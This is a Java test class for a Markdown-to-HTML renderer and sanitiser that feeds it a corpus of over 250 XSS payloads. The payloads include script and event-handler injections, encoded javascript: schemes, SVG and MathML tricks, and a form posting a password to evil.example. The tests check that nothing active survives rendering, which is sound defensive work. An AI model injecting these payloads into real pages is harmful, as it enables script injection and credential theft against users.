package com.agentacademy.catalog;

import static com.agentacademy.catalog.SafeHtml.assertSafe;
import static com.agentacademy.catalog.SafeHtml.assertSafeModule;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.context.support.StaticMessageSource;

import com.agentacademy.gift.GiftFormat;

/**
 * Hostile Markdown through the whole pipeline. Flexmark lets several spellings of
 * {@code javascript:} through on its own; these show that nothing active reaches the page: no
 * script-capable element, no event handler, no URL with a scheme other than http, https or mailto
 * (images: http and https only; modules never show {@code data:} images), whether the text is a
 * module (knowledge checks included) or the text of a GIFT question in any of its formats.
 */
class MarkdownXssTests {

    private final MarkdownRenderer renderer = new MarkdownRenderer(new HtmlSanitiser());

    private final ModuleLinks links = new ModuleLinks("service-manual", path -> true, file -> true);

    private final GiftTextRenderer questionTexts = new GiftTextRenderer(new HtmlSanitiser(), renderer);

    private final ModuleRendering modules = new ModuleRendering(renderer,
            new KnowledgeCheckRenderer(new StaticMessageSource(), questionTexts));

    static final List<String> HOSTILE_MARKDOWN = List.of(
            // raw HTML, block and inline
            "<script>alert(1)</script>",
            "Text <script>alert(1)</script> inline",
            "<img src=x onerror=alert(1)>",
            "Inline <img src=x onerror=alert(1)> image",
            "<svg onload=alert(1)>",
            "**<svg/onload=alert(1)>**",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<embed src=\"data:text/html,alert(1)\">",
            "<a href=\"javascript:alert(1)\">x</a>",
            "Inline <a href=\"&#106;avascript:alert(1)\">x</a>",
            "<p onclick=\"alert(1)\">x</p>",
            "<div style=\"background:url(javascript:alert(1))\">x</div>",
            "<style>body{display:none}</style>",
            "<form action=\"javascript:alert(1)\"><button>x</button></form>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<details open ontoggle=alert(1)>x</details>",
            "<base href=\"javascript:alert(1)//\">",
            // link schemes in every spelling
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java&#115;cript:alert(1))",
            "[x](&#106;avascript:alert(1))",
            "[x](&#x6A;avascript:alert(1))",
            "[x](&#X6a;avascript:alert(1))",
            "[x](&#106avascript:alert(1))",
            "[x](&#0000106&#0000097vascript:alert(1))",
            "[x](javascript&colon;alert(1))",
            "[x](javascript&#58;alert(1))",
            "[x](<java\tscript:alert(1)>)",
            "[x](java&#9;script:alert(1))",
            "[x](java&Tab;script:alert(1))",
            "[x](java&#10;script:alert(1))",
            "[x](java&NewLine;script:alert(1))",
            "[x]( javascript:alert(1))",
            "[x](\u0001javascript:alert(1))",
            "[x](&#14;javascript:alert(1))",
            "[x](<javascript:alert(1)>)",
            "[x](%6A%61%76%61%73%63%72%69%70%74%3Aalert(1))",
            "[x](javascript%3Aalert(1))",
            "[x](vbscript:msgbox(1))",
            "[x](VBScript&#58;msgbox(1))",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](javascript:alert(1) \"title\")",
            // images
            "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
            "![x](<data:image/svg+xml,<svg onload=alert(1)>>)",
            "![x](javascript:alert(1))",
            "![x](mailto:a@example.com)",
            "![x](images/a.png \"\\\" onerror=\\\"alert(1)\")",
            "![x\" onerror=\"alert(1)](images/a.png)",
            "[![x](javascript:alert(1))](javascript:alert(2))",
            // references and autolinks
            "[x][r]\n\n[r]: javascript:alert(1)",
            "[x][r] ![y][r]\n\n[r]: <JAVASCRIPT:alert(1)> \"t\"",
            "[r]\n\n[r]: java&#115;cript:alert(1)",
            "<javascript:alert(1)>",
            "<vbscript:msgbox(1)>",
            "<data:text/html,alert(1)>",
            // hostile content inside other constructs
            "| a | b |\n| --- | --- |\n| [x](javascript:alert(1)) | <img src=x onerror=alert(1)> |",
            "Text[^1]\n\n[^1]: [x](javascript:alert(1)) <script>alert(1)</script>",
            "!!! tip \"<img src=x onerror=alert(1)>\"\n    [x](javascript:alert(1)) <svg onload=alert(1)>",
            "!!! warning \"\\\" onclick=\\\"alert(1)\"\n    text",
            "> [x](JAVASCRIPT:alert(1))",
            "- [ ] [x](javascript:alert(1))\n- [x] <b onmouseover=alert(1)>y</b>",
            "Term\n: [x](vbscript:msgbox(1))",
            "## <script>alert(1)</script> heading",
            "## Heading <img src=x onerror=alert(1)>",
            "# [x](javascript:alert(1))",
            "[<img src=x onerror=alert(1)>](https://example.com)",
            "```\n</code><script>alert(1)</script>\n```",
            "`<script>alert(1)</script>`",
            "```gift\n::q::<script>alert(1)</script> {T}\n```",
            "```html onload=alert(1)\nx\n```",
            "~~<img src=x onerror=alert(1)>~~",
            "[x](https://example.com\" onclick=\"alert(1))",
            "[x](//evil.example/\" style=\"position:fixed)",
            // every kind of event handler, in raw HTML the renderer must drop
            "<body onload=alert(1)>",
            "<img src=x OnErRoR=alert(1)>",
            "<img src=x onerror\n=alert(1)>",
            "<img/src=x/onerror=alert(1)>",
            "<img src=x onerror=&#97;lert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<select autofocus onfocusin=alert(1)>",
            "<video><source onerror=alert(1)></video>",
            "<audio src=x onerror=alert(1)>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<div onpointerover=alert(1)>x</div>",
            "<a onmouseenter=alert(1) href=#>x</a>",
            "<textarea onkeyup=alert(1)></textarea>",
            "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
            "<isindex type=image src=1 onerror=alert(1)>",
            "<keygen autofocus onfocus=alert(1)>",
            "<animate onbegin=alert(1) attributeName=x dur=1s>",
            "<xss onanimationstart=alert(1) style=animation-name:x>",
            // scheme spellings: case, entities with and without semicolons, whitespace and controls inside
            "[x](JAVASCRIPT:alert(1))",
            "[x](jav&#x61;script:alert(1))",
            "[x](jav&#x0000061;script:alert(1))",
            "[x](&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1))",
            "[x](&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1))",
            "[x](&#0106;&#0097;vascript:alert(1))",
            "[x](jav&#x09;ascript:alert(1))",
            "[x](jav&#x0D;ascript:alert(1))",
            "[x](javascript&#x3A;alert(1))",
            "[x](javascript&#x3a alert(1))",
            "[x](javascript&#0000058alert(1))",
            "[x](<javascript\n:alert(1)>)",
            "[x](<\tjavascript:alert(1)>)",
            "[x](<  javascript:alert(1)>)",
            "[x](\u00a0javascript:alert(1))",
            "[x](\u200bjavascript:alert(1))",
            "[x](\ufeffjavascript:alert(1))",
            "[x](javascript\u0000:alert(1))",
            "[x](%20javascript:alert(1))",
            "[x](%09javascript:alert(1))",
            "[x](java%0ascript:alert(1))",
            "[x](java%09script:alert(1))",
            "[x](jav%61script:alert(1))",
            "[x](javascript://%0aalert(1))",
            "[x](javascript://example.com/%0Aalert(1))",
            "[x](javascript:/**/alert(1))",
            "[x](\\javascript:alert(1))",
            "[x](javascript\\:alert(1))",
            "[x](VBSCRIPT:msgbox(1))",
            "[x](vb&#115;cript:msgbox(1))",
            "[x](&#x76;bscript:msgbox(1))",
            "[x](livescript:alert(1))",
            "[x](mocha:alert(1))",
            "[x](DATA:text/html,<script>alert(1)</script>)",
            "[x](d&#x61;ta:text/html,<script>alert(1)</script>)",
            "[x](data&#58;text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](<data:text/html,<script>alert(1)</script>>)",
            "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
            "[x](data:application/xhtml+xml,<x/>)",
            "[x](file:///etc/passwd)",
            "[x](filesystem:https://example.com/temporary/x)",
            "[x](blob:https://example.com/uuid)",
            "[x](jar:https://example.com/x.jar!/)",
            "[x](view-source:https://example.com)",
            "[x](ms-its:mhtml:file://C:/x.mht!https://example.com/x::/y.htm)",
            "[x](feed:javascript:alert(1))",
            "[x](intent://x#Intent;scheme=javascript;end)",
            "[x](wyciwyg://0/javascript:alert(1))",
            // link titles: quotes, entities and breakouts
            "[x](https://example.com \"t\\\" onmouseover=\\\"alert(1)\")",
            "[x](https://example.com 't&quot; onmouseover=&quot;alert(1)')",
            "[x](https://example.com (t\" onmouseover=\"alert(1)))",
            "[x](javascript:alert(1) 'title')",
            "[x](<javascript:alert(1)> (title))",
            "[x][r]\n\n[r]: https://example.com \"\\\"><script>alert(1)</script>\"",
            // images in every spelling
            "![x](JAVASCRIPT:alert(1))",
            "![x](&#106;avascript:alert(1))",
            "![x](&#x6A;avascript:alert(1))",
            "![x](java&#9;script:alert(1))",
            "![x](<java\tscript:alert(1)>)",
            "![x]( javascript:alert(1))",
            "![x](%6A%61%76%61%73%63%72%69%70%74%3Aalert(1))",
            "![x](vbscript:msgbox(1))",
            "![x](data:image/png;base64,iVBORw0KGgo=)",
            "![x](DATA:image/gif;base64,R0lGODlhAQABAAAAACw=)",
            "![x](d&#97;ta:image/png;base64,iVBORw0KGgo=)",
            "![x](data:text/html,<script>alert(1)</script>)",
            "![x](file:///etc/passwd)",
            "![x](https://example.com/a.png \"\\\" onload=\\\"alert(1)\")",
            "![x\" onload=\"alert(1)](https://example.com/a.png)",
            "![<img src=x onerror=alert(1)>](https://example.com/a.png)",
            "![x&quot; onerror=&quot;alert(1)](images/a.png)",
            "![x][i]\n\n[i]: javascript:alert(1)",
            "![x][i]\n\n[i]: &#106;avascript:alert(1) \"t\"",
            "![x][i]\n\n[i]: <data:image/svg+xml,<svg onload=alert(1)>>",
            "![x][]\n\n[x]: vbscript:msgbox(1)",
            "![x]\n\n[x]: javascript:alert(1)",
            // autolinks, bare URLs and references in every form
            "<JaVaScRiPt:alert(1)>",
            "<java&#115;cript:alert(1)>",
            "<javascript&#58;alert(1)>",
            "<file:///etc/passwd>",
            "javascript:alert(1)",
            "www.example.com/javascript:alert(1)",
            "http://example.com/<script>alert(1)</script>",
            "https://example.com/\"onmouseover=\"alert(1)",
            "<mailto:a@example.com?body=<script>alert(1)</script>>",
            "<a@example.com\"onclick=\"alert(1)>",
            "[x][]\n\n[x]: javascript:alert(1)",
            "[x]\n\n[X]: JAVASCRIPT:alert(1)",
            "[x][r]\n\n[r]:\n  javascript:alert(1)\n  \"t\"",
            "[x][r]\n\n[r]: data:text/html,alert(1)",
            "[x][r]\n\n[r]: <vbscript:msgbox(1)>",
            // SVG and MathML
            "<svg><script>alert(1)</script></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
            "<svg><use xlink:href=\"https://evil.example/x.svg#a\"/></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text y=\"20\">x</text></a></svg>",
            "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
            "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
            "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
            "<svg><image href=x onerror=alert(1) /></svg>",
            "<math href=\"javascript:alert(1)\">x</math>",
            "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
            "![x](images/a.svg)",
            // frames, plugins, forms, meta, base, style, link
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<iframe src=\"https://evil.example\" sandbox></iframe>",
            "<frameset><frame src=javascript:alert(1)></frameset>",
            "<object type=\"text/html\" data=\"https://evil.example\"></object>",
            "<object><param name=src value=javascript:alert(1)></object>",
            "<embed type=\"image/svg+xml\" src=\"https://evil.example/x.svg\">",
            "<applet code=x.class></applet>",
            "<form><button formaction=javascript:alert(1)>x</button></form>",
            "<form action=https://evil.example method=post><input name=password></form>",
            "<input type=image src=javascript:alert(1)>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example\">",
            "<meta charset=\"utf-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "<base href=\"https://evil.example/\">",
            "<link rel=import href=https://evil.example/x.html>",
            "<link rel=stylesheet href=javascript:alert(1)>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<style>*{background:url('javascript:alert(1)')}</style>",
            "<p style=\"behavior:url(x.htc)\">x</p>",
            "<p style=\"width:expression(alert(1))\">x</p>",
            "<portal src=https://evil.example></portal>",
            "<template><script>alert(1)</script></template>",
            "<noscript><img src=x onerror=alert(1)></noscript>",
            "<xmp><script>alert(1)</script></xmp>",
            "<plaintext><script>alert(1)</script>",
            "<listing><img src=x onerror=alert(1)></listing>",
            // comments, CDATA and processing instructions
            "<!-- <script>alert(1)</script> -->",
            "<!--><script>alert(1)</script>-->",
            "<!-- --!><img src=x onerror=alert(1)>",
            "<!--[if IE]><script>alert(1)</script><![endif]-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<![CDATA[]]><script>alert(1)</script>",
            "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
            "<? echo '<script>alert(1)</script>' ?>",
            "<?xml version=\"1.0\"?><script>alert(1)</script>",
            "<!DOCTYPE x [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
            "Text <!-- comment --> <img src=x onerror=alert(1)>",
            // attribute breakouts through alt and title
            "![\"><script>alert(1)</script>](images/a.png)",
            "![x](images/a.png \"\\\"><script>alert(1)</script>\")",
            "![x](images/a.png 'a\\' onerror=\\'alert(1)')",
            "![x`onerror=alert(1)](images/a.png)",
            "![x](images/a.png \"`onerror=alert(1)\")",
            "[x](https://example.com \"\\\"><img src=x onerror=alert(1)>\")",
            // extensions the renderer enables: tables, footnotes, callouts, definitions, task lists, front matter
            "| <script>alert(1)</script> |\n| --- |\n| ![x](javascript:alert(1)) |",
            "| a |\n| :---: |\n| <td onclick=alert(1)>x</td> |",
            "Text[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: x",
            "Text[^1]\n\n[^1]: ![x](javascript:alert(1)) [y][r]\n\n[r]: vbscript:msgbox(1)",
            "Text[^\" onclick=\"alert(1)]\n\n[^\" onclick=\"alert(1)]: x",
            "!!! note \"</p><script>alert(1)</script>\"\n    x",
            "!!! note \"&lt;img src=x onerror=alert(1)&gt;\"\n    x",
            "!!! \" onclick=alert(1) \"\n    x",
            "??? tip \"[x](javascript:alert(1))\"\n    ![y](javascript:alert(2))",
            "!!! warning\n    !!! tip \"<svg onload=alert(1)>\"\n        <iframe src=javascript:alert(1)>",
            "Term <script>alert(1)</script>\n: <img src=x onerror=alert(1)>",
            "- [x] <input type=text onfocus=alert(1) autofocus>",
            "---\ntitle: <script>alert(1)</script>\nminutes: 5\n---\n# <img src=x onerror=alert(1)>",
            "---\nlink: javascript:alert(1)\n---\n[x][link]",
            "---\n\"<script>\": alert(1)\n---\n<script>alert(2)</script>",
            "# Heading {#\" onclick=\"alert(1)}",
            "# \"><img src=x onerror=alert(1)>",
            "```gift\n::q::[html]<img src=x onerror=alert(1)> {=a ~b}\n```",
            "```gift\n::q::[html]<a href=\"javascript:alert(1)\">x</a> {T#<script>alert(1)</script>}\n```",
            "```gift\n::q::[markdown][x](javascript:alert(1)) {=[x](vbscript:msgbox(1)) ~y}\n```",
            "```gift\n::q::Pick {=<svg onload=alert(1)> ~\"><script>alert(1)</script>}\n```",
            "```gift\n::q::Match {=<img src=x onerror=alert(1)> -> \"><script>alert(1)</script> =b -> c =d -> e}\n```",
            "```gift\n::q::Type {=\"><script>alert(1)</script>}\n```",
            "```\"><script>alert(1)</script>\nx\n```",
            "``` onmouseover=alert(1)\nx\n```",
            "    <script>alert(1)</script>",
            // nesting and mixing that once fooled parsers
            "<a href=\"https://example.com\"><a href=\"javascript:alert(1)\">x</a></a>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<<script>script>alert(1)<</script>/script>",
            "<img src=\"x` `<script>alert(1)</script>\"` `>",
            "<a href=\"#\" title=\"</a><script>alert(1)</script>\">x</a>",
            "<p title=\"<!--\"><img src=x onerror=alert(1)>-->",
            "<div><style><img src=x onerror=alert(1)></style></div>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><style><img src=x onerror=alert(1)></style></math>",
            "<table><caption><script>alert(1)</script></caption></table>",
            "<select><option><script>alert(1)</script></option></select>",
            "<textarea></textarea><script>alert(1)</script>",
            "<title></title><script>alert(1)</script>",
            "[x](https://example.com)<script>alert(1)</script>",
            "**bold *<img src=x onerror=alert(1)>***",
            "> > > <svg onload=alert(1)>",
            "1. <iframe src=javascript:alert(1)>\n2. [x](javascript:alert(1))");

    @Test
    void theCorpusIsLargeEnough() {
        assertThat(HOSTILE_MARKDOWN).hasSizeGreaterThanOrEqualTo(250).doesNotHaveDuplicates();
    }

    @ParameterizedTest
    @FieldSource("HOSTILE_MARKDOWN")
    void leavesNothingActive(String markdown) {
        assertSafe(renderer.render(markdown, links).html());
    }

    @ParameterizedTest
    @FieldSource("HOSTILE_MARKDOWN")
    void leavesNothingActiveInAWholeModuleWithItsKnowledgeChecks(String markdown) {
        var result = modules.render("service-manual", markdown, Set.of("a.png"), Set.of("02-call-flow.md"),
                Locale.ENGLISH);

        assertSafeModule(result.rendered().html());
    }

    @Test
    void keepsTheAnswersOfAKnowledgeCheckWithoutTheirScripts() {
        var result = modules.render("service-manual",
                "```gift\n::q::Pick {=<img src\\=x onerror\\=alert(1)>yes ~\"><script>alert(1)</script>}\n```", Set.of(),
                Set.of(), Locale.ENGLISH);

        Element check = Jsoup.parseBodyFragment(result.rendered().html()).body().selectFirst("section.knowledge-check");
        assertThat(check).isNotNull();
        assertThat(check.select("input[type=radio]")).hasSize(2);
        // GIFT's default format is HTML: the script goes, the rest of the answer stays
        assertThat(check.select("label").eachText()).containsExactly("yes", "\">");
        assertSafeModule(result.rendered().html());
    }

    static List<String> hostileMarkdownAndHtml() {
        return Stream.concat(HOSTILE_MARKDOWN.stream(), HtmlSanitiserTests.HOSTILE_HTML.stream()).distinct().toList();
    }

    @ParameterizedTest
    @MethodSource("hostileMarkdownAndHtml")
    void leavesNothingActiveInQuestionTextOfAnyFormat(String text) {
        for (GiftFormat format : GiftFormat.values()) {
            assertSafe(questionTexts.inline(text, format));
        }
    }

    @Test
    void keepsTheTextOfALinkWhoseTargetIsRefused() {
        Element body = Jsoup.parseBodyFragment(renderer.render("Call [support](java&#115;cript:alert(1)) now.", links).html()).body();

        assertThat(body.text()).isEqualTo("Call support now.");
        assertThat(body.select("a[href]")).isEmpty();
    }

    @Test
    void leavesSafeLinksAlone() {
        Element body = Jsoup.parseBodyFragment(renderer.render(
                "[a](https://example.com/x?y=1#z) [b](mailto:qa@example.com) [c](#grading) [d](02-call-flow.md)", links)
                .html()).body();

        assertThat(body.select("a").eachAttr("href")).containsExactly("https://example.com/x?y=1#z",
                "mailto:qa@example.com", "#grading", "/courses/service-manual/modules/call-flow");
        assertThat(body.select("a")).allSatisfy(
                a -> assertThat(SafeHtml.isSafeUrl(a.attr("href"), Set.of("http", "https", "mailto"))).isTrue());
    }
}
